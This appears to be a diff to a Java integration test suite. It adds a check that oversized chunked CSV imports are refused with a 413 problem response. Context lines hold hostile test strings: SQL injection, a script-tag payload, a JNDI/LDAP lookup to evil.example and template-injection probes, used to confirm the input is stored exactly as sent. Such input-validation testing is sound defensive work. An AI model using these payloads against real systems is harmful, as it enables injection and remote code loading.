@@ -106,6 +106,25 @@ class BadInputIT {
     }
 
     @Test
+    void aChunkedBodyOverTheLimitIsRefusedWithAProblemAndAChunkedBodyWithinItIsRead() throws Exception {
+        DataState before = DataState.of(system);
+        byte[] oversize = ("externalRef,title\n" + "x".repeat(21 * 1024 * 1024)).getBytes(StandardCharsets.UTF_8);
+        for (String url : List.of(system.url(Service.SUBMISSION) + "/api/v1/initiatives/import?province=42",
+                system.url(Service.ORG_UNIT) + "/api/v1/units/import?province=42")) {
+            Api.Reply reply = Api.postChunked(url, Population.ADMIN, "text/csv", oversize);
+
+            assertThat(reply.status()).as("%s: %s", url, reply).isEqualTo(413);
+            assertThat(reply.isProblem()).as("problem+json: %s", reply).isTrue();
+            assertThat(reply.json().path("field").asText()).isEqualTo("body");
+        }
+        assertThat(DataState.of(system)).as("no data changed").isEqualTo(before);
+
+        Api.Reply small = Api.postChunked(system.url(Service.SUBMISSION) + "/api/v1/initiatives",
+                member, "application/json", initiative(b -> { }));
+        assertThat(small.status()).as("%s", small).isEqualTo(201);
+    }
+
+    @Test
     void hostileLookingTextIsStoredAndReturnedExactlyAsSent() throws Exception {
         String title = "Robert'); DROP TABLE initiative;-- <script>alert('x')</script>";
         String problem = "${jndi:ldap://evil.example/x} {{7*7}} %s%n \\u0000 \" ' ` ; -- /* */ OR 1=1";
